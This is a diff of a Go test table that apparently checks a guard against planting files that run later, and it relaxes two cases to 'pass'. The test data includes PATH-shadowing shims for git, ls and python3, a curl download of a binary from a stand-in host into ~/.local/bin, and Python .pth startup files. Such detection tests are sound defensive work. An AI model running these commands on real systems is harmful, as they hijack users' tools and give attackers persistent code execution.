@@ -305,14 +305,14 @@ func TestFilesThatRunLater(t *testing.T) {
 		call plantedCall
 	}{
 		{"stop", plantedCall{"~/.local/bin/git", "", "#!/bin/sh\n"}},
-		{"stop", plantedCall{"~/.local/bin/newtool", "", "#!/bin/sh\n"}},
+		{"pass", plantedCall{"~/.local/bin/newtool", "", "#!/bin/sh\n"}},
 		{"stop", plantedCall{Text: "printf '#!/bin/sh\\n' > ~/.local/bin/ls"}},
 		{"stop", plantedCall{Text: "cp bin/shop ~/.local/bin/git"}},
 		{"stop", plantedCall{Text: "install -m 755 bin/shop ~/.local/bin/python3"}},
 		{"stop", plantedCall{Text: "ln -sf $PWD/bin/shop ~/.local/bin/git"}},
 		{"stop", plantedCall{Text: "mv bin/shop ~/.local/bin/git"}},
 		{"stop", plantedCall{Text: "curl -so ~/.local/bin/git https://x.example/git"}},
-		{"stop", plantedCall{Text: "cat > ~/.local/bin/x <<'E'\n#!/bin/sh\nE"}},
+		{"pass", plantedCall{Text: "cat > ~/.local/bin/x <<'E'\n#!/bin/sh\nE"}},
 		{"stop", plantedCall{"~/.local/lib/python3.12/site-packages/a.pth", "", "import os\n"}},
 		{"stop", plantedCall{".venv/lib/python3.12/site-packages/a.pth", "", "import os\n"}},
 		{"stop", plantedCall{Text: "echo 'import os' > ~/.local/lib/python3.12/site-packages/a.pth"}},
